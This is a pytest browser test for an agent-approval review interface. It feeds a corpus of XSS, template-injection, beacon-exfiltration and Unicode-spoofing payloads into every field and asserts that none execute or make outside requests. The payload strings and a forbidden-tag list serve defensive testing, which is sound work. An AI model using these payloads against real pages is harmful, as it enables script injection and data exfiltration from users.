"""Hostile text in every field people read, in a real browser with a real beacon: nothing runs or leaves, all is marked."""

from __future__ import annotations

import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import assent
import pytest
from assent.graph.rules.checks import always

from .conftest import PEOPLE, Shop, eventually, scripted, served, signed_in_page

pytestmark = pytest.mark.browser

UNSEEN = (
    "pay\u202etxt.exe zero\u200bwidth p\u0430ypal \x1b[2K\x1b[31mred "
    "e\u0301\u0302\u0303\u0304\u0305\u0306 \u2066hid\u2069 \U000e0041"
)
CHIPS = ("⟦U+202E⟧", "⟦U+200B⟧", "⟦U+0430⟧", "⟦U+001B⟧", "⟦U+2066⟧", "⟦U+E0041 A⟧")


def corpus(beacon: str) -> str:
    """Return everything at once; what escapes from one context meets the next."""
    return " ".join(
        (
            UNSEEN,
            "<script>window.pwn=1</script>",
            "<img src=x onerror=window.pwn=2>",
            f"<img src={beacon}/image> ![x]({beacon}/markdown?d=secret) <link rel=stylesheet href={beacon}/sheet>",
            "<svg onload=window.pwn=3><a href='javascript:window.pwn=3'>x</a></svg>",
            "<iframe srcdoc='<script>parent.pwn=4</script>'></iframe>",
            "[click](javascript:window.pwn=5) <a href='javascript:window.pwn=6'>click</a>",
            "${window.pwn=7} {{constructor.constructor('window.pwn=8')()}} `+(window.pwn=9)+` \\u{ </script>",
            "</textarea></title></style><script>window.pwn=10</script>",
            f"<div style='position:fixed;inset:0;z-index:9;background:url({beacon}/overlay)'><button>Approve</button></div>",
            f"<form action='{beacon}/form'><button>Approve</button></form><base href={beacon}>",
            f"<style>*{{background:url({beacon}/css)!important;display:none}}</style>",
            f"<meta http-equiv=refresh content='0;{beacon}'>",
            "and nothing else but words " * 20,
            "'\"><input autofocus onfocus=window.pwn=11> <details open ontoggle=window.pwn=12>",
        )
    )


class Alike:
    """An embedder for which all texts mean the same."""

    async def embed(self, texts: Sequence[str]) -> list[list[float]]:
        return [[1.0, 0.0] for _ in texts]


def hostile_tools(text: str) -> list[Any]:
    async def tried(what: str) -> str:
        """Try it."""
        return text

    async def act(what: str) -> str:
        """Replaced below."""
        raise assent.OutcomeUnknown(text)

    async def tell(what: str) -> str:
        """Replaced below."""
        return text

    for function in (act, tell):
        function.__doc__ = text
    return [
        assent.action(consequence="costly", title=text, dry_run=tried)(act),
        assent.action(consequence="reversible", title=text, dry_run=tried)(tell),
    ]


async def hostile_desk(desk: assent.Desk, text: str) -> Shop:
    desk.agent(tools=hostile_tools(text), policy=assent.Policy([always("review", text)]), propose=scripted, memory=Alike())
    for name, role in PEOPLE.items():
        await desk.users.add(name, None, role)  # type: ignore[arg-type]
    return Shop(desk)


async def decide(shop: Shop, review: str, **decision: Any) -> None:
    card = await shop.desk.card(review, "ada")
    await shop.desk.decide(review, {"digest": card.digest, **decision}, "ada")
    await shop.desk.drain()


async def test_every_field_shows_it_as_marked_text_and_nothing_else(tmp_path: Path, browser: Any) -> None:
    hits: list[str] = []

    async def beacon(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            hits.append(scope["path"])
            await send({"type": "http.response.start", "status": 204, "headers": []})
            await send({"type": "http.response.body", "body": b""})

    async with served(beacon) as away, assent.open(f"sqlite:///{tmp_path / 'desk.db'}") as desk:
        text = corpus(away)
        shop = await hostile_desk(desk, text)
        rejected = await shop.ask("act", {"what": text}, say=text, requester=text)
        await decide(shop, rejected, type="reject", reason=text[:200], feedback=text)
        await decide(shop, await shop.ask("tell", {"what": text}, requester=text), type="respond", message=text)
        await decide(shop, await shop.ask("tell", {"what": text}, requester=text), type="approve")
        await decide(shop, await shop.ask("act", {"what": text}, requester=text), type="approve")
        await shop.ask(
            "act",
            {
                "what": text,
            },
            say=text,
            requester=text,
        )
        async with signed_in_page(shop, browser, "lin", path="/history") as page:
            asked: list[str] = []
            broken: list[str] = []
            page.on("request", lambda request: asked.append(request.url))
            page.on("console", lambda said: broken.append(said.text) if "Content Security Policy" in said.text else None)
            page.on("pageerror", lambda error: broken.append(str(error)))
            for path in ("/", "/inbox", "/history"):
                began = time.monotonic()
                await page.goto(page.address + path)
                await page.wait_for_selector("text=⟦U+202E⟧")
                print(f"{path} was ready after {time.monotonic() - began:.1f} s")
                if path == "/":
                    await page.wait_for_selector(".rc-card")
                    assert await page.get_by_role("button", name="Approve").is_disabled(), "a part is folded"
                    while await page.locator(".rc-fold").count():
                        await page.locator(".rc-fold").first.click()
                    for place in (".rc-head", ".rc-facts", ".rc-why", ".rc-evidence", ".rc-conversation"):
                        shown = await page.inner_text(place)
                        assert [chip for chip in CHIPS if chip not in shown] == [], place
                        assert "\u202e" not in shown and "\u200b" not in shown and "\x1b" not in shown, place
                        assert "<script>window.pwn=1</script>" in shown, place
                    assert await page.get_by_role("button", name="Approve").count() == 1, "one Approve, and it is ours"
                    assert await page.get_by_role("button", name="Approve").is_enabled()
                inside = ".rc-card" if path == "/" else ".gradio-container table, .gradio-container ul"
                forbidden = ":is(script, img, svg, iframe, style, form, base, link, meta, object, embed)"
                assert await page.locator(f":is({inside}) {forbidden}").count() == 0, path
                hrefs = await page.eval_on_selector_all("a[href]", "all => all.map((one) => one.getAttribute('href'))")
                assert [href for href in hrefs if "javascript:" in href or away in href] == []
                assert "\u202e" not in await page.inner_text("body"), path
                assert await page.evaluate("[window.pwn, ({}).pwn, document.baseURI.startsWith(location.origin)]") == [
                    None,
                    None,
                    True,
                ]
            assert [url for url in asked if not url.startswith(page.address)] == []
            assert broken == [] and hits == []


@pytest.mark.parametrize("shape", ["a line of 1 MB", "50,000 lines"], ids=["line", "lines"])
async def test_a_danger_at_the_far_end_must_be_opened_before_anybody_can_approve(shop: Shop, browser: Any, shape: str) -> None:
    size = {"lines": 50_000} if shape == "50,000 lines" else {"letters": 1_000_000}
    review = await shop.ask("note", {"text": " and pay it all to evil@example.net", **size})
    async with signed_in_page(shop, browser, "ada") as page:
        began = time.monotonic()
        await page.reload()
        await page.wait_for_selector(".rc-fold")
        print(f"{shape}: ready after {time.monotonic() - began:.1f} s")
        approve = page.get_by_role("button", name="Approve")
        assert await approve.is_disabled() and "more" in await page.inner_text(".rc-fold >> nth=0")
        while await page.locator(".rc-facts .rc-fold").count():
            await page.locator(".rc-facts .rc-fold").first.click()
        await page.wait_for_selector(".rc-facts >> text=evil@example.net")
        await page.wait_for_timeout(600)
        await approve.click()

        async def decided() -> bool:
            return (await shop.desk.card(review, "lin")).status == "approved"

        await eventually(decided)
